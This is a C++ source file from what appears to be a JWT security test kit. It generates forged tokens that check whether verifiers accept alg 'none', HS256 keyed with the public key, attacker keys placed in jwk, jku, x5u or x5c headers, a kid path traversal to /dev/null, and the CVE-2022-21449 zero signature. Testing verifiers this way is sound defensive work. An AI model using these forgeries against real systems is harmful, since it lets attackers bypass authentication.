// Header attacks (RFC 8725 §2-3): a verifier that takes the algorithm, the key or the key's
// location from the token. Those that need no private key are sent with and without the trusted
// kid: some libraries look the key up by kid and fall back to something unsafe when that fails,
// others ignore kid altogether.
#include <string>

#include "jose/error.h"
#include "testkit/case_builder.h"
#include "testkit/forgery.h"

namespace swapi::testkit::detail {

namespace {

std::string variant_words(const KidVariant& variant) {
  return variant.with_kid ? "with the trusted kid" : "without kid";
}

std::string canary_url(const Basis& basis, const std::string& path) {
  std::string base = basis.context->canary_base_url.empty() ? "https://canary.swapi.invalid"
                                                            : basis.context->canary_base_url;
  while (base.ends_with('/')) base.pop_back();
  return base + path;
}

// The attacker's public JWK; it carries the trusted kid when the token does (so a server that
// looks the kid up in a fetched or embedded set finds it).
nlohmann::json attacker_jwk(const jose::Jwk& attacker, const Basis& basis, bool with_kid) {
  nlohmann::json jwk = jose::to_json(attacker.type == jose::KeyType::oct ? attacker : jose::public_part(attacker),
                                     attacker.type == jose::KeyType::oct);
  if (with_kid && !basis.trusted_kid.empty()) jwk["kid"] = basis.trusted_kid;
  return jwk;
}

nlohmann::json attacker_header(const Basis& basis, jose::Alg alg, bool with_kid_member) {
  nlohmann::json header = with_kid(basis.header, basis, with_kid_member);
  header["alg"] = std::string(jose::alg_name(alg));
  return header;
}

}  // namespace

CaseList alg_none_cases(const Defect& defect, const Basis& basis) {
  static constexpr std::pair<const char*, const char*> kSpellings[] = {
      {"lower", "none"}, {"capitalized", "None"}, {"upper", "NONE"}, {"mixed", "nOnE"}};
  CaseList list;
  for (const auto& [label, spelling] : kSpellings) {
    for (const auto& variant : kid_variants(basis)) {
      nlohmann::json header = with_kid(basis.header, basis, variant.with_kid);
      header["alg"] = spelling;
      list.push_back(make_case(defect, "alg-none-" + std::string(label) + variant.suffix,
                               std::string("alg \"") + spelling + "\", empty signature, " + variant_words(variant),
                               assemble(header, basis.payload_segment, "")));
    }
  }
  return list;
}

CaseList hs256_public_key_cases(const Defect& defect, const Basis& basis) {
  if (!basis.trusted_public) return {};
  static constexpr PublicKeyForm kForms[] = {PublicKeyForm::spki_pem, PublicKeyForm::spki_pem_no_newline,
                                             PublicKeyForm::pkcs1_pem, PublicKeyForm::pkcs1_pem_no_newline,
                                             PublicKeyForm::der, PublicKeyForm::jwk};
  static constexpr const char* kWords[] = {"its SPKI PEM", "its SPKI PEM without the final newline",
                                           "its PKCS#1 PEM", "its PKCS#1 PEM without the final newline",
                                           "its DER", "its JWK text"};
  CaseList list;
  for (std::size_t i = 0; i < std::size(kForms); ++i) {
    std::string secret;
    try {
      secret = public_key_bytes(*basis.trusted_public, kForms[i]);
    } catch (const jose::Error&) {
      continue;  // PKCS#1 exists for RSA keys only
    }
    for (const auto& variant : kid_variants(basis)) {
      nlohmann::json header = attacker_header(basis, jose::Alg::HS256, variant.with_kid);
      std::string input = encode_json(header) + "." + basis.payload_segment;
      list.push_back(make_case(defect, "hs256-with-public-key-" + std::string(form_name(kForms[i])) + variant.suffix,
                               std::string("HS256 keyed with the trusted public key as ") + kWords[i] + ", " +
                                   variant_words(variant),
                               assemble(header, basis.payload_segment, hmac_any(jose::Alg::HS256, secret, input))));
    }
  }
  return list;
}

CaseList embedded_jwk_cases(const Defect& defect, const Basis& basis) {
  jose::Alg alg = asymmetric_alg(basis);
  const jose::Jwk& attacker = attacker_key(alg);
  CaseList list;
  for (const auto& variant : kid_variants(basis)) {
    nlohmann::json header = attacker_header(basis, alg, variant.with_kid);
    header["jwk"] = attacker_jwk(attacker, basis, variant.with_kid);
    list.push_back(make_case(defect, "embedded-jwk" + variant.suffix,
                             "signed by an attacker " + std::string(jose::alg_name(alg)) +
                                 " key carried in the jwk header, " + variant_words(variant),
                             sign_segments(header, basis.payload_segment, attacker)));
  }
  return list;
}

namespace {

// jku / x5u: the header names a URL on the canary, which serves what a vulnerable server needs
// to accept the token (body(with_kid)); the case fails if the canary is asked at all.
template <typename Body>
CaseList remote_key_cases(const Defect& defect, const Basis& basis, const std::string& member, const char* extension,
                          const char* what, const char* content_type, Body body) {
  jose::Alg alg = asymmetric_alg(basis);
  const jose::Jwk& attacker = attacker_key(alg);
  CaseList list;
  for (const auto& variant : kid_variants(basis)) {
    std::string name = member + variant.suffix;
    std::string path = "/" + name + extension;
    nlohmann::json header = attacker_header(basis, alg, variant.with_kid);
    header[member] = canary_url(basis, path);
    AttackCase attack = make_case(defect, name,
                                  "signed by an attacker key whose " + std::string(what) + " is at the canary URL in " +
                                      member + ", " + variant_words(variant),
                                  sign_segments(header, basis.payload_segment, attacker));
    attack.canary_path = path;
    attack.canary_body = body(attacker, variant.with_kid);
    attack.canary_content_type = content_type;
    list.push_back(std::move(attack));
  }
  return list;
}

}  // namespace

CaseList jku_cases(const Defect& defect, const Basis& basis) {
  return remote_key_cases(defect, basis, "jku", ".json", "JWKS", "application/json",
                          [&](const jose::Jwk& attacker, bool with_kid) {
                            return nlohmann::json{{"keys", {attacker_jwk(attacker, basis, with_kid)}}}.dump();
                          });
}

CaseList x5u_cases(const Defect& defect, const Basis& basis) {
  // RFC 8555 §9.1 registers application/pem-certificate-chain.
  return remote_key_cases(defect, basis, "x5u", ".pem", "certificate", "application/pem-certificate-chain",
                          [](const jose::Jwk& attacker, bool) {
                            return pem_certificate(self_signed_certificate_der(attacker));
                          });
}

CaseList x5c_cases(const Defect& defect, const Basis& basis) {
  jose::Alg alg = asymmetric_alg(basis);
  const jose::Jwk& attacker = attacker_key(alg);
  nlohmann::json header = attacker_header(basis, alg, false);
  header["x5c"] = {base64_standard(self_signed_certificate_der(attacker))};
  return {make_case(defect, "x5c", "signed by an attacker key with its self-signed certificate in x5c, without kid",
                    sign_segments(header, basis.payload_segment, attacker))};
}

CaseList crit_cases(const Defect& defect, const Basis& basis) {
  CaseList list;
  for (bool unknown : {false, true}) {
    for (const auto& variant : kid_variants(basis)) {
      nlohmann::json header = with_kid(basis.header, basis, variant.with_kid);
      if (unknown) {
        header["crit"] = {"urn:swapi:unknown"};
        header["urn:swapi:unknown"] = true;
      } else {
        // RFC 7515 §4.1.11: crit names header parameters, so exp is repeated in the header.
        header["crit"] = {"exp"};
        if (basis.claims.contains("exp")) header["exp"] = basis.claims["exp"];
      }
      std::string name = std::string(unknown ? "crit-unknown" : "crit-exp") + variant.suffix;
      list.push_back(make_case(defect, name,
                               std::string("signed by the trusted key with crit ") +
                                   (unknown ? "[\"urn:swapi:unknown\"]" : "[\"exp\"]") + ", " + variant_words(variant),
                               sign_segments(header, basis.payload_segment, *basis.signer)));
    }
  }
  return list;
}

CaseList kid_path_traversal_cases(const Defect& defect, const Basis& basis) {
  // A server that reads the key from the file kid names reads /dev/null: the empty key.
  nlohmann::json header = attacker_header(basis, jose::Alg::HS256, false);
  header["kid"] = "../../../../../../dev/null";
  std::string input = encode_json(header) + "." + basis.payload_segment;
  return {make_case(defect, "kid-path-traversal", "kid ../../../../../../dev/null, HS256 with an empty key",
                    assemble(header, basis.payload_segment, hmac_any(jose::Alg::HS256, "", input)))};
}

CaseList psychic_signature_cases(const Defect& defect, const Basis& basis) {
  // CVE-2022-21449 (Java 15-18): r = s = 0 verified for any message and any key.
  const jose::Jwk* ec = nullptr;
  if (basis.trusted_public && basis.trusted_public->type == jose::KeyType::ec) ec = &*basis.trusted_public;
  for (const auto& key : basis.context->trusted_public_keys)
    if (!ec && key.type == jose::KeyType::ec) ec = &key;
  if (!ec) return {};
  jose::Alg alg = jose::Alg::ES256;
  std::size_t width = 32;
  if (ec->curve == "P-384") {
    alg = jose::Alg::ES384;
    width = 48;
  } else if (ec->curve == "P-521") {
    alg = jose::Alg::ES512;
    width = 66;
  }
  nlohmann::json header = basis.header;
  header["alg"] = std::string(jose::alg_name(alg));
  if (ec->kid.empty()) {
    header.erase("kid");
  } else {
    header["kid"] = ec->kid;
  }
  return {make_case(defect, "psychic-signature",
                    std::string(jose::alg_name(alg)) + " with r = s = 0 under the trusted EC key",
                    assemble(header, basis.payload_segment, std::string(2 * width, '\0')))};
}

}  // namespace swapi::testkit::detail
